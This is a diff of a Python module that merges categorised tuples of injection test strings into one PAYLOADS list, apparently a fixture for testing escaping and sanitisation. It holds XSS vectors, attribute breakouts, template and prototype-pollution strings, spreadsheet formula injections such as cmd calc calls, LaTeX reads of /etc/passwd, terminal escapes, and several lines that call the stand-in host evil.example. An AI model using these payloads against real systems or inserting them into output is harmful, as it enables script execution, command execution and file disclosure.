@@ -4,7 +4,8 @@ than a text where it is shown.
 Each that runs a script calls `owned()`, and each that asks for something asks `evil.example`.
 """
 
-ELEMENTS = (
+PAYLOADS = (
+    # elements of HTML, and ways out of the element that a text stands in
     "<script>owned()</script>",
     "<script src=//evil.example/a.js></script>",
     "<scr<script>ipt>owned()</scr</script>ipt>",
@@ -37,10 +38,7 @@ ELEMENTS = (
     "<a href=//evil.example/ ping=//evil.example/p>a</a>",
     "<plaintext>all that follows",
     "<!-- all that follows",
-)  # fmt: skip
-"""Elements of HTML, and ways out of the element that a text stands in."""
-
-VECTORS = (
+    # SVG and MathML
     "<svg onload=owned()>",
     "<svg><script>owned()</script></svg>",
     "<svg><a href=javascript:owned()><text>a</text></a></svg>",
@@ -48,10 +46,7 @@ VECTORS = (
     "<svg><foreignObject><iframe src=javascript:owned()></iframe></foreignObject></svg>",
     "<svg><image href=//evil.example/i.png /></svg>",
     "<math><mtext><script>owned()</script></mtext></math>",
-)
-"""SVG and MathML."""
-
-ATTRIBUTES = (
+    # ways out of an attribute, and other ways to write what is special
     '" onmouseover="owned()',
     "' onmouseover='owned()",
     '" autofocus onfocus="owned()" x="',
@@ -65,18 +60,12 @@ ATTRIBUTES = (
     "&lt;script&gt;owned()&lt;/script&gt;",
     "&#x3c;img src=x onerror=owned()&#x3e;",
     '\u2028"><script>owned()</script>\u2029',
-)
-"""Ways out of an attribute, and other ways to write what is special."""
-
-STYLES = (
+    # style sheets
     "</style><style>*{display:none}</style>",
     "*{background:url(//evil.example/c.png)}",
     "} body { display: none } a {",
     "<div style=position:fixed;inset:0;background:red>all red</div>",
-)
-"""Style sheets."""
-
-SCRIPTS = (
+    # scripts, addresses, and JSON inside of a script
     "owned()",
     "');owned();('",
     '");owned();("',
@@ -87,18 +76,12 @@ SCRIPTS = (
     "__proto__",
     '{"__proto__": {"hidden": true}}',
     '{"a": "</script><script>owned()</script>"}',
-)
-"""Scripts, addresses, and JSON inside of a script."""
-
-TEMPLATES = (
+    # templates
     "{{ 7 * 7 }}",
     "{% for a in range(10**9) %}a{% endfor %}",
     "{# all that follows",
     "%(name)s %s %n {0} {name}",
-)
-"""Templates."""
-
-CELLS = (
+    # cells of a spreadsheet
     '=HYPERLINK("//evil.example/", "a")',
     "=cmd|' /C calc'!A0",
     "+1+cmd|' /C calc'!A0",
@@ -107,10 +90,7 @@ CELLS = (
     "'=1+1",
     "\uff1d1+1",
     '="a""b",=1+1\r\n=2+2',
-)
-"""Cells of a spreadsheet."""
-
-MARKS = (
+    # Markdown
     "[a](javascript:owned())",
     "![a](//evil.example/m.png)",
     "https://evil.example/ and www.evil.example",
@@ -120,10 +100,7 @@ MARKS = (
     "*a* _a_ **a** __a__ ~~a~~",
     "\\<script>owned()\\</script>",
     "{: onclick=owned()}",
-)
-"""Markdown."""
-
-MACROS = (
+    # LaTeX
     "\\input{/etc/passwd}",
     "\\write18{owned}",
     "\\def\\a{\\a}\\a",
@@ -132,10 +109,7 @@ MACROS = (
     "\\end{tabular}\\input{secret}",
     "$x$ & $y$ \\\\ #1 ~ _a ^b",
     "a\n\nb",
-)
-"""LaTeX."""
-
-TERMINAL = (
+    # terminals
     "\x1b[2J\x1b[H",
     "\x1b]0;title\x07",
     "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
@@ -149,18 +123,3 @@ TERMINAL = (
     "\ufeffmark",
     "lone \ud800 surrogate",
 )
-"""Terminals."""
-
-PAYLOADS = (
-    *ELEMENTS,
-    *VECTORS,
-    *ATTRIBUTES,
-    *STYLES,
-    *SCRIPTS,
-    *TEMPLATES,
-    *CELLS,
-    *MARKS,
-    *MACROS,
-    *TERMINAL,
-)
-"""All of them."""
